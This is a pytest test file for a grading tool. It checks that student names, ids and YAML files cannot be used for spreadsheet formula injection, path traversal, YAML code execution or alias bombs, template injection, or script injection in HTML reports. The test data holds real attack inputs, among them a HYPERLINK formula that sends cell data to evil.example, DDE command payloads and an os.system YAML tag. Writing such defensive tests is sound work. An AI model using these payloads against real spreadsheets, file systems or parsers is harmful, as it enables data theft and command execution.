"""Names, ids and texts that would act where they are shown or become paths."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.errors import ExerciseError
from grader.model.assignment import Student
from grader.reports.spreadsheets import disarmed
from grader.spec import read_roster
from grader.spec.reader import read_document
from grader.workflows.release import read_release

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1",
    " =1+1",
    "|calc",
    "%0A=1",
    'a","b\n=1+1',
    "\uff1d1+1",
    "x;=1+1",
    "x; \t@SUM(1)",
    "\x1b[31m=1",
    "\u202e=1",
]
ACTIVE = tuple("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")
IDS = ["../../etc/cron.d/x", "/abs", "a/b", "a\\b", "..", ".", " ", "con", "nul.txt", "a\x00b"]
IDS += ["x" * 300, "-rf", "a\nb", "~root", "..%2f..", "\u202ebob", "a:b", "COM1", "a.", "a\u0301"]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_the_score_table_is_a_formula(room, name, separator):
    students = (replace(room.students[0], name=name), room.students[1])
    room = replace(room, students=students)
    (room.handed_in / "ada.ipynb").write_bytes(room.notebook("ada"))
    room.grade()
    text = (room.folder / "graded" / "grades.csv").read_bytes().decode()
    # However a spreadsheet is set up to cut the lines, no cell begins with a sign that acts.
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=separator) for cell in line]
    assert not any(cell.lstrip(' "').startswith(ACTIVE) for cell in cells)


@given(st.text())
def test_a_disarmed_text_begins_with_nothing_that_acts_and_is_one_line(text):
    shown = disarmed(text)
    assert not shown.startswith(ACTIVE)
    assert not any(part.lstrip().startswith(ACTIVE) for part in shown.split(";"))
    assert shown == "".join(shown.splitlines())


@pytest.mark.parametrize("identity", IDS)
def test_an_id_that_could_leave_its_folder_is_no_id(identity):
    quoted = identity.replace('"', '""')
    with pytest.raises(ExerciseError):
        read_roster(f'id,name\nada,Ada\n"{quoted}",Eve\n'.encode(), "roster.csv")


@pytest.mark.parametrize("identity", ["../../etc/x", "/abs", "a/b", "..", ""])
def test_a_release_record_that_somebody_edited_leads_nowhere_else(room, identity):
    room.notebook("ada")
    record = room.folder / "release" / "release.json"
    record.write_text(record.read_text().replace('"ada"', f'"{identity}"', 1))
    with pytest.raises(Exception, match="cannot be a file name"):
        read_release(room.folder / "release")


@pytest.mark.parametrize(
    "lines", ["Ada,A\nada,B", "ada,A\nada ,B", "ada,A\n ADA,B", "ada,A\n\ufeffada,B"]
)
def test_two_students_cannot_share_a_file(lines):
    with pytest.raises(ExerciseError):
        read_roster(f"id,name\n{lines}\n".encode(), "roster.csv")


@pytest.mark.parametrize(
    "data",
    [
        b"!!python/object/apply:os.system ['touch canary']",
        b"points: 1\npoints: 100",
        b"a: &x {b: 1}\nc:\n  <<: *x",
        b"[" * 20_000 + b"]" * 20_000,
        b"{a: " * 5_000,
        b"a: 1e999",
        b"\n".join(
            [b"a0: &a0 [x]"]
            + [b"a%d: &a%d [*a%d, *a%d]" % (n, n, n - 1, n - 1) for n in range(1, 40)]
        ),
    ],
)
def test_a_yaml_file_makes_no_objects_and_no_bombs(tmp_path, monkeypatch, data):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExerciseError) as caught:
        read_document(
            "id: x\n" + data.decode() if data[:1] not in b"[!{" else data.decode(), "f.yaml"
        )
    assert all(fault.place.startswith("f.yaml") for fault in caught.value.faults)
    assert not Path("canary").exists()


def test_a_name_written_as_a_template_stays_a_name(room):
    name = "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}"
    room = replace(room, students=(Student(id="ada", name=name),))
    notebook = room.notebook("ada").decode()
    assert "49" not in notebook.split("area =")[0].replace("249", "")
    (room.handed_in / "ada.ipynb").write_bytes(room.notebook("ada"))
    room.grade()
    page = (room.folder / "graded" / "feedback" / "ada.html").read_text()
    assert "{{ 7 * 7 }}" in page


def test_a_name_written_as_html_stays_text(room):
    room = replace(room, students=(Student(id="ada", name="<script>alert(1)</script>"),))
    (room.handed_in / "ada.ipynb").write_bytes(room.notebook("ada"))
    room.grade()
    for page in ("index.html", "feedback/ada.html"):
        assert "<script>alert" not in (room.folder / "graded" / page).read_text()
